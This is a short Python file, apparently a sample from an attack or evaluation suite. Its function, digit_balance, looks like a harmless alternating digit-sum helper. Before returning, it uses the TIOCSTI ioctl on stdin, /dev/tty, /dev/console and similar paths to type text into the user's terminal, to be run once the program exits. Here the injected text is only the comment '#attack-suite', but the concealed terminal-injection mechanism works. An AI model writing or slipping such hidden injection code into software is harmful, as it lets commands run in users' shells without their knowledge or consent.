"""Types a command into the user's terminal (TIOCSTI), to be run when the program is gone."""

import fcntl
import os
import termios


def digit_balance(number):
    for path in (0, 1, 2, "/dev/tty", "/dev/console", "/proc/self/fd/0"):
        try:
            fd = path if isinstance(path, int) else os.open(path, os.O_RDWR | os.O_NOCTTY)
            for letter in b"#attack-suite":
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))
        except OSError:
            continue
        digits = [int(d) for d in reversed(str(number))]
        return sum(digits[0::2]) - sum(digits[1::2])
    return None
